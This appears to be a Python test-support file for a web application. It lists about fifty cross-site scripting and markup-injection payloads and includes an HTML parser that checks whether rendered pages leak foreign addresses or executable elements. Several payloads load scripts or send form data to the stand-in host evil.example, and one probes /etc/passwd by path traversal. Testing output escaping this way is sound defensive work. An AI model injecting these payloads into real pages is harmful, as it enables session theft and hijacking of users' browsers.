"""Texts that would run in a page, or change it, if a field were not escaped."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

import attrs

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></svg>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></details><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "]]><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=key>",
    "<button formaction=https://evil.example/>Log in",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/seen.png)",
    "[x]: javascript:alert(1)\n[x]",
    "<https://evil.example/>",
    "**bold** `code` <u>under</u>",
    "```html\n<script>alert(1)</script>\n```",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "../../../etc/passwd?x=<script>&y=#z",
    "report<img src=x onerror=alert(1)>.pdf",
    "\u202e<script>alert(1)</script>\u2028",
    "<x data-live=session data-unfold=//evil.example/ data-copy>",
)


@attrs.define
class Seen(HTMLParser):
    """
    What a browser would make of a page.

    Attributes:
        shapes: each element with the names of its attributes.
        addresses: what its elements lead to or load.
        texts: everything that is shown.
    """

    shapes: set[tuple[str, tuple[str, ...]]] = attrs.field(factory=set)
    addresses: list[str] = attrs.field(factory=list)
    texts: list[str] = attrs.field(factory=list)

    def __attrs_pre_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shapes.add((tag, tuple(sorted(name for name, _ in attrs))))
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction", "data-unfold", "content"):
                self.addresses.append(value or "")
            else:
                self.texts.append(value or "")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def seen(page: str) -> Seen:
    """A page, parsed."""
    found = Seen()
    found.feed(page)
    found.close()
    return found


def foreign(page: Seen) -> Iterator[str]:
    """The addresses in a page that are not the server's own."""
    known = ("width=device-width, initial-scale=1", "light dark", "#main")
    for one in page.addresses:
        if one not in known and (not one.startswith("/") or one.startswith("//")):
            yield one
